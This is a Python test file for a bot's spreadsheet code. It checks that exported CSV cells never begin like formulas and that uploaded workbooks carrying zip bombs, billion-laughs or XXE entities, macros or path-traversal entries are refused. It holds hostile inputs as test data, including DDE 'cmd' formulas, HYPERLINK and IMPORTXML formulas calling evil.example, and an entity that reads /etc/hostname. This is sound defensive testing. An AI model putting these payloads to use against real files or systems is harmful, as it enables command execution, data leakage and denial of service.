"""Tables that come and go: no cell is a formula to whoever opens ours, and no file that is a bomb is opened by us."""

from __future__ import annotations

import csv
import tracemalloc
from typing import TYPE_CHECKING
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
import pytest

from bot.opening import CannotOpen
from bot.order_file import rows
from bot.order_workbook import MOST_TEXT
from bot.spreadsheet import write_table
from domain.order_cells import Unread
from tests.bot.test_order_file import HEAD, ROW, sheet
from tests.faults.tally import LONG
from tests.hostile.nasty import CORPUS

if TYPE_CHECKING:
    from collections.abc import Iterable
    from pathlib import Path

    from tests.faults.tally import Tally

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    '=IMPORTXML("http://evil")',
    "@",
    "=",
    "-",
    "+",
    "+86 138 1234 5678;=1+1",
)


XML_PARTS = tuple(
    f"xl__{name}_dot_xml"
    for name in ("worksheets__sheet1", "styles", "workbook", "sharedStrings", "theme__theme1")
)


def begins_none(cell: str) -> bool:
    """Whether a spreadsheet takes it for what it is."""
    return (
        not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
        or cell[1:].isdigit()
    )


def test_nothing_that_was_typed_is_a_formula_in_our_csv(tmp_path: Path, tally: Tally) -> None:
    """Each in the first, a middle and the last cell of a row; what was typed is still all there."""
    typed = [*FORMULAS, *(text for text in CORPUS if text.isprintable())]
    table = tmp_path / "t.csv"
    write_table(table, ["a", "b", "c"], [[text] * 3 for text in typed])
    with table.open(encoding="utf-8-sig", newline="") as file:
        _, *found = csv.reader(file)
    assert len(found) == len(typed)
    for text, cells in zip(typed, found, strict=True):
        assert {cell.removeprefix("'") for cell in cells} == {text.removeprefix("'")}
        assert all(map(begins_none, cells)), text
    tally("cells that begin like a formula", cases=3 * len(typed))


def test_a_number_with_its_country_stays_a_number(tmp_path: Path) -> None:
    write_table(tmp_path / "t.csv", ["phone"], [["+8613812345678"]])
    assert (tmp_path / "t.csv").read_text("utf-8-sig").split() == ["phone", "+8613812345678"]


# ---------------------------------------------------------------- what is brought to us


def with_parts(file: Path, **parts: Iterable[bytes]) -> Path:
    """The workbook with some of its parts replaced or added; `__` stands for /, `_dot_` for the point."""
    with ZipFile(file) as old:
        kept = {name: old.read(name) for name in old.namelist()}
    named = {name.replace("__", "/").replace("_dot_", "."): part for name, part in parts.items()}
    with ZipFile(file, "w", ZIP_DEFLATED) as new:
        for name in kept.keys() - named.keys():
            new.writestr(name, kept[name])
        for name, pieces in named.items():
            with new.open(name, "w", force_zip64=True) as part:
                for piece in pieces:
                    part.write(piece)
    return file


def refused(file: Path) -> str:
    """The one sentence with which it is refused, and with how little memory."""
    tracemalloc.start()
    with pytest.raises(CannotOpen) as told:
        list(rows(file))
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 64 << 20, f"{most >> 20} MB"
    sentence = str(told.value)
    assert sentence.count("\n") == 0
    assert sentence.endswith("。")
    return sentence


@pytest.mark.parametrize("part", [*XML_PARTS, "xl__media__image1_dot_png"] if LONG else XML_PARTS[:1])
def test_a_bomb_is_not_unpacked(tmp_path: Path, part: str) -> None:
    """Some hundred kilobytes that become more than any list of orders, in whichever part."""
    blanks = (b" " * (1 << 20) for _ in range((MOST_TEXT >> 20) + 1))
    file = with_parts(sheet(tmp_path, ROW), **{part: blanks})
    assert file.stat().st_size < 1 << 20
    assert "请分成几个文件" in refused(file)


LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
BOMB = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">' + LAUGHS + b"]><x>&l11;</x>"
SPY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/hostname">]><x>&s;</x>'


@pytest.mark.parametrize("xml", [BOMB, SPY], ids=["laughs", "another file"])
@pytest.mark.parametrize("part", [*XML_PARTS, "_rels__.rels"])
def test_entities_are_not_read(tmp_path: Path, part: str, xml: bytes) -> None:
    """Neither those that multiply nor those that fetch."""
    file = with_parts(sheet(tmp_path, ROW), **{part: [xml]})
    assert "已损坏" in refused(file)


def test_a_macro_is_not_run_and_its_table_is_read(tmp_path: Path) -> None:
    """It is only bytes to us."""
    file = with_parts(
        sheet(tmp_path, ROW), xl__vbaProject_dot_bin=[b"\xd0\xcf\x11\xe0" + b"Shell calc" * 100]
    )
    (line, row), *_ = rows(file)
    assert (line, row[HEAD[0]]) == (2, ROW[0])


def test_a_name_that_leads_elsewhere_stays_here(tmp_path: Path) -> None:
    """Nothing is unpacked to a place that the archive names."""
    file = with_parts(sheet(tmp_path, ROW), **{"../../evil.txt": [b"x"]})
    assert len(list(rows(file))) == 1
    assert not (tmp_path.parents[1] / "evil.txt").exists()


@pytest.mark.parametrize("lie", [b"PK\x03\x04", b"PK\x03\x04" + b"\0" * 4_000, b"PK\x05\x06" + b"\0" * 18])
def test_what_only_begins_like_a_workbook_is_refused(tmp_path: Path, lie: bytes) -> None:
    file = tmp_path / "工单.xlsx"
    file.write_bytes(lie)
    refused(file)


def test_formulas_in_a_list_are_faults_or_the_value_they_had(tmp_path: Path) -> None:
    """Nothing is worked out here: a formula that was saved counts with its value, one that was not is told."""
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.append(HEAD)
    page.append(['=HYPERLINK("http://evil.example")', "=1+1", "=NOW()", "=cmd|' /C calc'!A0"])
    book.save(tmp_path / "工单.xlsx")
    [(_, row)] = rows(tmp_path / "工单.xlsx")
    assert set(row.values()) == {Unread.FORMULA}
